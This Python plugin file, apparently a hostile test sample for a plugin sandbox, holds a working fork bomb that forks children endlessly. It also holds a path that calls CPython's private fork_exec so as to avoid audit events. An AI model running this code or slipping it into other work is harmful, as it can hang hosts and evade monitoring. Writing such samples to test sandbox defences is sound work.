"""A fork bomb: os.fork in a loop, then the C-level fork_exec that subprocess uses (no audit event)."""
import os

from apps.plugins.base import SCOPE_STORAGE, BasePlugin, intent_hook


class ForkBomb(BasePlugin):
    name = "fork_bomb"
    scopes = (SCOPE_STORAGE,)
    config_schema = {"type": "object", "properties": {"bypass": {"type": "boolean", "default": False}}}

    @intent_hook(intent="attack_fork", keywords=[r"\battack fork\b"])
    def attack(self, ctx):
        loot = {"children": 0, "errors": []}
        if not ctx.config["bypass"]:
            for _ in range(1000):
                try:
                    if os.fork() == 0:
                        while True:
                            os.fork()
                    loot["children"] += 1
                except Exception as exc:  # noqa: BLE001
                    loot["errors"].append(repr(exc))
                    break
            ctx.storage.set("loot", loot)
            return "done"
        ctx.storage.set("loot", {"children": "about to bypass"})
        import _posixsubprocess

        # The arguments of CPython 3.11's fork_exec: no Python-level audit event is raised on this path.
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec(
            [b"/bin/true"], [b"/bin/true"], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w,
            False, False, -1, None, None, None, -1, None, False)
        ctx.storage.set("loot", {"children": pid})
        return "forked"
